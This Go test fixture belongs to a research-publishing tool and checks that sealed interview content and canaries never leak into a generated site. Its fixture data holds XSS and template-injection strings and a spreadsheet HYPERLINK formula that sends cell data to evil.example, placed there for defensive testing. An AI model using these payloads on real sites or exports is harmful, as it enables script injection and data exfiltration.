package publish_test

import (
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"throughline/internal/cases"
	"throughline/internal/coding"
	"throughline/internal/document"
	"throughline/internal/fieldwork"
	"throughline/internal/publish"
	"throughline/internal/source"
	"throughline/internal/store"
	"throughline/internal/study"
	"throughline/internal/synthesis"
	"throughline/internal/thread"
)

const (
	sealKey  = "5ea15ea15ea15ea15ea15ea15ea15ea15ea15ea15ea15ea15ea15ea15ea15ea1"
	hostile  = `<script>alert("x")</script><img src=x onerror=alert(1)>'"&{{.Secret}}`
	formula  = `=HYPERLINK("https://evil.example/?"&A1,"click")`
	openTold = "The square was full on the third evening."
	arabic   = "امتلأت الساحة في المساء الثالث."
	quotable = "We agreed early that nobody would throw a stone, whatever came."
)

// What no file may hold.
var canaries = map[string]string{
	"sealed words":                    "SEALEDCANARY the minister's cousin paid for the buses out of the second ledger",
	"background words":                "BACKGROUNDCANARY I was in the room when the list was burned",
	"withdrawn words":                 "WITHDRAWNCANARY she told me the name of the judge on the stairs",
	"rest of a quotable transcript":   "RESTCANARY my sister drove me home that night",
	"translation of sealed words":     "TRANSLATEDCANARY the cousin of the minister paid out of the second ledger",
	"memo":                            "MEMOCANARY the informant hesitated here",
	"selection memo":                  "SELECTIONCANARY chosen because our people are there",
	"informant":                       "inf-arm-a1",
	"code of the quoted":              "arm-a1",
	"code of the sealed":              "arm-a2",
	"code of the background":          "arm-a3",
	"interview":                       "int-arm-a1",
	"protected document":              "doc-int-arm",
	"coder":                           "coder-7k",
	"interviewer":                     "fieldteam-9q",
	"reviewer":                        "screener-4x",
	"date of interviews":              "2025-11-17",
	"place of interviews":             "PLACECANARY a flat near the market",
	"guide":                           "GUIDECANARY what did you see",
	"title of a protected document":   "TITLECANARY",
	"version of the consent":          "consent-zz-1",
	"seal key":                        sealKey,
	"why a candidate is not safe":     "ACCESSCANARY informants would be followed",
	"title of a withheld statement":   "WITHHELDCANARY a thing heard in confidence",
	"page of a withheld statement":    "lesson-confidence",
	"takeaway that is withheld":       "take-confidence",
	"example of a code":               "CODECANARY",
	"retention of the interview":      "2031-07-19",
	"salt of the sealed passage":      document.SealOf(sealKey, "seg-int-arm-a2-1", "").Salt,
	"salt of the quoted passage":      document.SealOf(sealKey, "seg-int-arm-a1-1", "").Salt,
	"candidate's withheld cited work": "WORKCANARY",
	"person of a coalition":           "PERSONCANARY Anahit",
	"group that may not be named":     "GROUPCANARY",
}

type fixture struct {
	b      store.Bundle
	bodies map[thread.ID]string
	n      map[thread.ID]int
}

func (f *fixture) put(os ...thread.Object) { f.b.Objects = append(f.b.Objects, os...) }

// replace puts an object in the place of the one with its id.
func (f *fixture) replace(o thread.Object) {
	for i, x := range f.b.Objects {
		if x.Ref() == o.Ref() {
			f.b.Objects[i] = o
			return
		}
	}
	panic("nothing to replace: " + o.Ref())
}

func (f *fixture) doc(d document.Document, body string) {
	d.Version, d.SHA256 = 1, thread.Content([]byte(body))
	f.put(d)
	f.b.Texts = append(f.b.Texts, document.Text{Document: d.ID, Version: 1, Body: body})
	f.bodies[d.ID] = body
}

func (f *fixture) segment(t testing.TB, id, doc thread.ID, quote string) {
	a, err := document.Text{Document: doc, Version: 1, Body: f.bodies[doc]}.Find(quote)
	if err != nil {
		t.Fatalf("%s: %v", id, err)
	}
	f.put(coding.Segment{ID: id, Case: "case-armenia", Anchor: a})
}

func (f *fixture) confirmAll() {
	f.b.Confirmations = nil
	for _, o := range f.b.Objects {
		if o.Ref().Kind().IsStatement() {
			f.b.Confirmations = append(f.b.Confirmations, store.Confirmation{Statement: o.Ref(), By: "lead", At: "2026-01-02T00:00:00.000000Z"})
		}
	}
}

func ids(s ...thread.ID) []thread.ID { return s }

func newFixture(t testing.TB) *fixture {
	f := &fixture{b: store.Bundle{Slug: "small", SealKey: sealKey}, bodies: map[thread.ID]string{}}
	f.put(
		study.Study{ID: "study", Slug: "small", Title: "Small study", Notice: "illustration, not findings", Purpose: "To learn.\n\nAnd to tell. " + hostile, Approach: "By comparing.",
			Theme: "Accountability", QuestionCode: "Q1", Question: "Under what conditions does it work?",
			CoreQuestions: []study.Question{{ID: "cq-1", Text: "Which factors made them succeed?"}, {ID: "cq-2", Text: "Which did not?"}},
			Insights:      []study.Insight{{ID: "insight-peace", Text: "Peaceful discipline"}, {ID: "insight-none", Text: "An insight without a lesson"}},
			Audiences:     []study.Audience{{ID: "activist", Name: "Activists"}, {ID: "business", Name: "Business leaders"}},
			RegionScheme:  "World Bank", Languages: []string{"en", "ar"}, Acknowledgement: "With thanks to the funder."},
		study.Protocol{ID: "protocol", Unit: "a case", Outcome: "a demand met", Include: []study.Criterion{{ID: "in-1", Text: "collective"}}, Exclude: []study.Criterion{{ID: "ex-1", Text: "single act"}}},
		study.Member{ID: "member-lead", Handle: "lead", Role: study.Lead},
		study.Member{ID: "member-coder-7k", Handle: "coder-7k", Role: study.Coder},
		study.Member{ID: "member-fieldteam-9q", Handle: "fieldteam-9q", Role: study.CountryTeam, Cases: ids("case-armenia")},
		study.Member{ID: "member-screener-4x", Handle: "screener-4x", Role: study.Researcher},
		study.Edition{ID: "edition-2026-1", On: "2026-03-31", SignedBy: "lead", Note: "First edition."},
		source.Search{ID: "search-a", Source: "archive", On: "2026-01-03", Query: "protest", Hits: 12},
		source.Record{ID: "ref-a", Search: "search-a", Type: "news", Authors: []string{"Example Gazette"}, Year: 2018, Title: "The square " + hostile, Container: "Example Gazette", Language: "en", URL: `https://example.org/a?x="><script>1</script>`},
		source.Record{ID: "ref-a2", Search: "search-a", Type: "news", Year: 2018, Title: "The square (again)"},
		source.Record{ID: "ref-b", Search: "search-a", Type: "report", Authors: []string{"هيئة المثال"}, Year: 2019, Title: "الساحة", Language: "ar", DOI: "10.1234/abc"},
		source.Record{ID: "ref-c", Search: "search-a", Type: "report", Title: "WORKCANARY not cited"},
		source.Work{ID: "work-a", Records: ids("ref-a", "ref-a2"), Reason: "same text"},
		source.Work{ID: "work-b", Records: ids("ref-b")}, source.Work{ID: "work-c", Records: ids("ref-c")},
		source.Screening{Record: "ref-a", Stage: source.TitleAbstract, Reviewer: "screener-4x", Decision: source.Include},
		source.Screening{Record: "ref-a", Stage: source.FullText, Reviewer: "screener-4x", Decision: source.Include},
		source.Screening{Record: "ref-c", Stage: source.TitleAbstract, Reviewer: "screener-4x", Decision: source.Exclude, Reason: "ex-1"},
		cases.Candidate{ID: "cand-arm-2018", Name: "The square", Country: "Armenia", ISO3: "ARM", Start: 2018, End: 2018, Trigger: "A third term", TriggerSource: []string{"https://example.org/t"}, Outcome: "success", RegimeBefore: "electoral autocracy", Region: "Europe & Central Asia", Feasible: true},
		cases.Candidate{ID: "cand-other", Name: "Other", Country: "Elsewhere", ISO3: "XYZ", Start: 2015, Outcome: "failure", RegimeBefore: "closed autocracy", Region: "Asia", Access: "ACCESSCANARY informants would be followed"},
		cases.Fact{ISO3: "ARM", Year: 2017, Attribute: "civil-society", Value: "0.7", Source: "A dataset v1", Licence: "CC BY"},
		cases.Fact{ISO3: "ARM", Year: 2016, Attribute: "civil-society", Value: "0.6", Source: "A dataset v1"},
		cases.Selection{ID: "selection", Method: "greedy", K: 2, Chosen: ids("cand-arm-2018"), Memo: "SELECTIONCANARY chosen because our people are there", SignedBy: "lead"},
		cases.Case{ID: "case-armenia", Candidate: "cand-arm-2018", Name: "Armenia 2018", Summary: "People filled the square.", Notice: "illustration", Sources: ids("ref-a")},
		cases.Case{ID: "case-other", Candidate: "cand-other", Name: "Elsewhere 2015", Summary: "Few came."},
		cases.Event{ID: "ev-2", Case: "case-armenia", Date: "2018-04-23", Title: "He resigns", Lane: "state", Records: ids("ref-a2"), URLs: []string{"https://example.org/1", "https://example.org/2"}},
		cases.Event{ID: "ev-1", Case: "case-armenia", Date: "2018-04~", Title: "The square fills", Lane: "movement"},
		cases.Actor{ID: "actor-groups", Case: "case-armenia", Name: "Groups", Sector: "civil society", Stance: "coalition", Public: true},
		cases.Actor{ID: "actor-person", Case: "case-armenia", Name: "PERSONCANARY Anahit", Sector: "civil society", Stance: "coalition", Person: true},
		cases.Actor{ID: "actor-hidden", Case: "case-armenia", Name: "GROUPCANARY", Sector: "business", Stance: "coalition"},
		cases.Tie{ID: "tie-2", Case: "case-armenia", From: "actor-person", To: "actor-groups", Kind: "member-of"},
		cases.Actor{ID: "actor-party", Case: "case-armenia", Name: "Party", Sector: "party", Stance: "opponent", Public: true},
		cases.Tie{ID: "tie-1", Case: "case-armenia", From: "actor-groups", To: "actor-party", Kind: "opposes", Date: "2018"},
		fieldwork.Guide{ID: "guide", Title: "Guide", Questions: []fieldwork.Question{{ID: "g-1", Text: "GUIDECANARY what did you see", Answers: []string{"cq-1"}}}},
		coding.Code{ID: "code-peace", Name: "Peace", Define: "CODECANARY what it means"},
	)
	consent := fieldwork.Consent{Version: "consent-zz-1", Language: "en", Mode: "oral", Code: true, KeepUntil: "2031-07-19"}
	quote, sealed, background, withdrawn := consent, consent, consent, consent
	quote.Quote, quote.Paraphrase = true, true
	sealed.Paraphrase = true
	background.Background, background.Paraphrase = true, true
	withdrawn.Quote, withdrawn.Withdrawn = true, "2026-01-01"
	for i, c := range []fieldwork.Consent{quote, sealed, background, withdrawn} {
		code := "arm-a" + string(rune('1'+i))
		inf, iv := thread.ID("inf-"+code), thread.ID("int-"+code)
		f.put(fieldwork.Informant{ID: inf, Case: "case-armenia", Category: []string{"activist", "government official", "journalist", "other"}[i]},
			fieldwork.Interview{ID: iv, Case: "case-armenia", Informant: inf, Interviewer: "fieldteam-9q", On: "2025-11-17", Language: "en", Mode: "in person", Where: "PLACECANARY a flat near the market", Notice: "composed for demonstration", Consent: c})
		body := []string{quotable + "\nRESTCANARY my sister drove me home that night.\n", "Well.\n" + canaries["sealed words"] + ".\n", canaries["background words"] + ".\n", canaries["withdrawn words"] + ".\n"}[i]
		f.doc(document.Document{ID: thread.ID("doc-" + string(iv)), Title: "TITLECANARY interview " + code, Case: "case-armenia", Kind: document.Transcript, Language: "en", Interview: iv}, body)
	}
	// A translation of a sealed transcript is as protected, though it names no interview itself.
	f.doc(document.Document{ID: "doc-int-arm-a2-en", Title: "TITLECANARY translation", Case: "case-armenia", Kind: document.Translation, Language: "en", Translates: "doc-int-arm-a2"}, canaries["translation of sealed words"]+".\n")
	f.doc(document.Document{ID: "doc-open", Title: "A chronicle", Case: "case-armenia", Kind: document.Report, Language: "en", Record: "ref-a2", Notice: "written by us"}, openTold+"\nLater it emptied. "+hostile+"\n")
	f.doc(document.Document{ID: "doc-arabic", Title: "الساحة", Case: "case-armenia", Kind: document.Report, Language: "ar", Record: "ref-b"}, arabic+"\n")
	f.segment(t, "seg-open-1", "doc-open", openTold)
	f.segment(t, "seg-open-2", "doc-open", "Later it emptied. "+hostile)
	f.segment(t, "seg-arabic-1", "doc-arabic", arabic)
	f.segment(t, "seg-int-arm-a1-1", "doc-int-arm-a1", quotable)
	f.segment(t, "seg-int-arm-a2-1", "doc-int-arm-a2", canaries["sealed words"])
	f.segment(t, "seg-int-arm-a2-2", "doc-int-arm-a2-en", canaries["translation of sealed words"])
	f.segment(t, "seg-int-arm-a3-1", "doc-int-arm-a3", canaries["background words"])
	f.segment(t, "seg-int-arm-a4-1", "doc-int-arm-a4", canaries["withdrawn words"])
	f.put(
		coding.Coding{Segment: "seg-int-arm-a1-1", Code: "code-peace", Coder: "coder-7k", Case: "case-armenia", Memo: "MEMOCANARY the informant hesitated here"},
		synthesis.Condition{ID: "cond-peace", Letter: "PEACE", Name: "Peaceful discipline", Define: "no violence", Calibration: synthesis.Calibration{Method: "words", Reason: "as told", Words: []synthesis.Anchor{{Word: "full", Value: 1}, {Word: "none", Value: 0}}}},
		synthesis.Condition{ID: "cond-won", Letter: "WON", Name: "Demand met", Outcome: true, Define: "met", Calibration: synthesis.Calibration{Method: "crisp", Reason: "yes or no", Threshold: 1}},
		synthesis.Score{Case: "case-armenia", Condition: "cond-peace", Raw: "full", Justification: "-1 stones were thrown", Supports: ids("seg-int-arm-a1-1", "seg-int-arm-a2-1"), Contradicts: ids("seg-open-2"), AgreedBy: []string{"coder-7k"}},
		synthesis.Score{Case: "case-other", Condition: "cond-peace", Raw: "none", Justification: "@once it was told", Supports: ids("seg-arabic-1")},
		synthesis.Score{Case: "case-armenia", Condition: "cond-won", Raw: "1", Justification: "He resigned.", Supports: ids("seg-open-1")},
		synthesis.Score{Case: "case-other", Condition: "cond-won", Raw: "0", Justification: "Nothing came of it.", Supports: ids("seg-int-arm-a3-1")}, // background: withheld
		synthesis.Takeaway{ID: "take-peace", Case: "case-armenia", Direction: "success", Title: "Nobody threw a stone", Text: "Discipline held.", Supports: ids("seg-int-arm-a1-1", "seg-int-arm-a2-1", "seg-int-arm-a2-2", "seg-int-arm-a4-1"), Contradicts: ids("seg-open-2")},
		synthesis.Takeaway{ID: "take-confidence", Case: "case-armenia", Direction: "failure", Title: canaries["title of a withheld statement"], Text: "WITHHELDCANARY", Supports: ids("seg-int-arm-a3-1", "seg-int-arm-a4-1"), Contradicts: ids("seg-open-1")},
		// The informant's code in an id: the public id must not show it.
		synthesis.Takeaway{ID: "take-arm-a1-square", Case: "case-armenia", Direction: "success", Title: "The square was full", Text: "It was.", Supports: ids("seg-open-1")},
	)
	conditions, scores := conditionsAndScores(f)
	a, err := synthesis.Analysis{ID: "ana-crisp", Title: "Crisp comparison", Mode: "crisp", Outcome: "cond-won", Conditions: ids("cond-peace"), Cases: ids("case-armenia", "case-other"), Frequency: 1, Consistency: 0.8, Reading: "Where it stayed peaceful, the demand was met."}.
		Run(context.Background(), conditions, scores)
	if err != nil {
		t.Fatal(err)
	}
	k := synthesis.Concern{Level: "minor", Reason: "few interviews"}
	conf := synthesis.Confidence{Limitations: k, Coherence: k, Adequacy: k, Relevance: k, Level: "low", Reason: "two cases"}
	f.put(a,
		synthesis.Finding{ID: "find-peace", Title: "Peace goes with success", Text: "It does here.", CasesFor: ids("case-armenia"), CasesAgainst: ids("case-other"), Supports: ids("ana-crisp", "take-peace"), Contradicts: ids("seg-arabic-1")},
		synthesis.Lesson{ID: "lesson-peace", Insight: "insight-peace", Title: "Keep the peace", Statement: formula, Scope: "Where a square can be filled.", Confidence: conf, CasesFor: ids("case-armenia"), CasesAgainst: ids("case-other"), Supports: ids("find-peace", "take-arm-a1-square"), Contradicts: ids("take-peace", "take-confidence")},
		synthesis.Lesson{ID: "lesson-confidence", Insight: "insight-none", Title: "WITHHELDCANARY lesson", Statement: "s", Scope: "s", Confidence: conf, Supports: ids("take-confidence")},
		synthesis.Lesson{ID: "lesson-index", Title: "A lesson named index", Statement: "s", Scope: "s", Confidence: conf, Supports: ids("take-peace")},
		synthesis.Recommendation{ID: "recom-train", Audiences: []string{"activist", "business"}, Action: "Train for calm " + hostile, Detail: "+ every week", Risks: "Fatigue.", Supports: ids("lesson-peace", "lesson-confidence"), Contradicts: ids("lesson-index")},
		synthesis.Recommendation{ID: "recom-hidden", Audiences: []string{"activist"}, Action: "WITHHELDCANARY do it", Detail: "d", Risks: "r", Supports: ids("lesson-confidence")},
		synthesis.Answer{ID: "answer-1", Question: "cq-1", Text: "Calm did.", Supports: ids("lesson-peace")},
		synthesis.Answer{ID: "answer-2", Question: "cq-2", Text: "WITHHELDCANARY answer", Supports: ids("lesson-confidence")},
		synthesis.Answer{ID: "answer-l", Question: "learning", Text: "When it stays calm.", Supports: ids("find-peace")},
	)
	f.confirmAll()
	return f
}

func conditionsAndScores(f *fixture) (cs []synthesis.Condition, ss []synthesis.Score) {
	for _, o := range f.b.Objects {
		switch o := o.(type) {
		case synthesis.Condition:
			cs = append(cs, o)
		case synthesis.Score:
			ss = append(ss, o)
		}
	}
	return cs, ss
}

func open(t testing.TB, f *fixture) *store.Store {
	t.Helper()
	at := time.Date(2026, 4, 1, 0, 0, 0, 0, time.UTC)
	s, err := store.Open(context.Background(), store.Config{Database: filepath.Join(t.TempDir(), "t.db"), Key: []byte(strings.Repeat("k", 32)), Clock: func() time.Time { at = at.Add(time.Second); return at }})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	if _, err := s.Import(context.Background(), "import", f.b, false, nil); err != nil {
		t.Fatal(err)
	}
	return s
}

// build makes the site of a fixture and gives its files by name.
func build(t testing.TB, s *store.Store, opt publish.Options) (map[string]string, publish.Report) {
	t.Helper()
	out := filepath.Join(t.TempDir(), "site")
	r, err := publish.Site(context.Background(), s, "small", out, opt)
	if err != nil {
		t.Fatal(err)
	}
	return read(t, out), r
}

func read(t testing.TB, out string) map[string]string {
	t.Helper()
	files := map[string]string{}
	err := filepath.WalkDir(out, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(path)
		name, _ := filepath.Rel(out, path)
		files[filepath.ToSlash(name)] = string(b)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}
